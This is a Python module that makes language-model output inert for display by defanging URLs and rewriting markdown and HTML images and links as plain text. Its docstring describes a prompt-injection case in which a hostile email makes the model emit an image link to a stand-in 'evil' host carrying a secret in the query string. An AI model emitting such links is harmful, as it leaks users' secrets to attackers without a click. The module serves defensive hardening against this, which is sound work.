"""Make model output safe to display: links and images become inert text.

WHY (OWASP LLM01/LLM02): a prompt-injected mail can make the model emit `![x](https://evil/?d=<secret>)`;
a renderer that loads the image leaks the secret without a click, and a clickable link leaks it with one.
`make_inert` rewrites every markdown image, markdown link, HTML image/anchor, autolink and bare URL into
plain text whose URL is "defanged" (`hxxps://evil[.]example/...`), so no widget, markdown renderer or
auto-linker will fetch or open it. The visible words stay, so the user still sees what the model said.

Pure functions, thread-safe. The UI shows the result as plain text (never rich text / HTML).
"""

from __future__ import annotations

import re

__all__ = ["defang", "find_urls", "make_inert"]

_SCHEMES = r"(?:https?|ftp|file|data|javascript|mailto|ws|wss)"
_URL = r"(?:" + _SCHEMES + r":[^\s<>()\[\]\"']+|www\.[^\s<>()\[\]\"']+)"
_URL_RE = re.compile(r"(?i)\b" + _URL)
_MD_IMAGE_RE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_MD_IMAGE_REF_RE = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
_MD_LINK_RE = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_MD_REF_DEF_RE = re.compile(r"(?im)^[ \t]{0,3}\[[^\]]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$")
_HTML_IMG_RE = re.compile(r"(?is)<img\b(?:[^>]*?\bsrc\s*=\s*[\"']?([^\"'\s>]*))?[^>]*>")
_HTML_TAG_RE = re.compile(r"(?is)</?(?:a|iframe|script|link|object|embed|source|video|audio|meta|style)\b[^>]*>")
_SCHEME_RE = re.compile(r"(?i)^([a-z][a-z0-9+.-]*):(//)?")
_AUTOLINK_RE = re.compile(r"(?i)<(" + _URL + r")>")


def defang(url: str) -> str:
    """`https://evil.example/x` -> `hxxps://evil[.]example/x`: readable, never auto-linked or fetched."""
    prefix, rest = "", url
    m = _SCHEME_RE.match(url)
    if m:
        scheme = m.group(1).lower()
        prefix = (scheme.replace("tt", "xx", 1) + ":" if scheme in ("http", "https") else scheme + "[:]") + (m.group(2) or "")
        rest = url[m.end():]
    host, slash, path = rest.partition("/")
    return prefix + host.replace(".", "[.]") + slash + path


def find_urls(text: str) -> list[str]:
    """Every URL-like string in `text` (for audit counts and tests)."""
    return _URL_RE.findall(text)


def make_inert(text: str) -> str:
    """Rewrite images/links/URLs in model output into inert text (see module docstring)."""
    text = _MD_IMAGE_RE.sub(lambda m: f"[image not loaded: {m.group(1) or 'untitled'} — {defang(m.group(2))}]", text)
    text = _MD_IMAGE_REF_RE.sub(lambda m: f"[image not loaded: {m.group(1) or 'untitled'}]", text)
    text = _HTML_IMG_RE.sub(lambda m: f"[image not loaded: {defang(m.group(1) or '')}]", text)
    text = _HTML_TAG_RE.sub("", text)
    text = _MD_REF_DEF_RE.sub(lambda m: f"[link target: {defang(m.group(1))}]", text)
    placeholders: list[str] = []

    def keep(value: str) -> str:  # already-defanged pieces must not be rewritten again
        placeholders.append(value)
        return f"\x00{len(placeholders) - 1}\x00"

    text = _MD_LINK_RE.sub(lambda m: keep(f"{m.group(1)} ({defang(m.group(2))})"), text)
    text = _AUTOLINK_RE.sub(lambda m: keep(defang(m.group(1))), text)
    text = _URL_RE.sub(lambda m: defang(m.group(0)), text)
    return re.sub(r"\x00(\d+)\x00", lambda m: placeholders[int(m.group(1))], text)
